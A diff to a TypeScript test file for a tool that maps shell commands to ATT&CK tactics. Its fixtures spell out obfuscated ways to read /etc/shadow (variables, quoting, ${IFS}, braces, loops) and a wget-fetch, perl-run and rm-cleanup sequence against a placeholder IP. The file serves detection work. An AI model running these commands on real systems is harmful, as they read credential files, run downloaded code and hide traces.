@@ -75,7 +75,7 @@ describe('the ATT&CK mapper', () => {
     ['in a here-document', 'sh <<EOF\ncat /etc/shadow\nEOF'],
     ['in variables', 'c=cat; f=/etc/shadow; $c $f'],
     ['with quotes in the middle of words', 'c\'a\'t /etc/sha"dow"'],
-    ['with ${IFS} for blanks', 'cat${IFS}/etc/shadow'],
+    ['with the field separator for blanks', `cat\${IFS}/etc/shadow`],
     ['in braces', '{cat,/etc/shadow}'],
     ['in a loop', 'for i in 1 2; do cat /etc/shadow; done'],
     ['in a function', 'f() { cat /etc/shadow; }; f'],
@@ -170,12 +170,12 @@ describe('a session of statements', () => {
 
   it('tells deleting what was used from clearing the way', () => {
     const tactics = (statements: string[]) => mapper.mapSession(statements).statements.map(({ tactic }) => tactic);
-    expect(tactics(['wget http://192.0.2.1/bot.pl', 'perl bot.pl', 'rm -rf bot.pl'])).toEqual([
+    expect(tactics(['wget http://192.0.2.1/a.pl', 'perl a.pl', 'rm -rf a.pl'])).toEqual([
       'command-and-control',
       'execution',
       'defense-evasion',
     ]);
-    expect(tactics(['rm -rf bot.pl', 'wget http://192.0.2.1/bot.pl'])).toEqual([
+    expect(tactics(['rm -rf a.pl', 'wget http://192.0.2.1/a.pl'])).toEqual([
       'command-and-control',
       'command-and-control',
     ]);
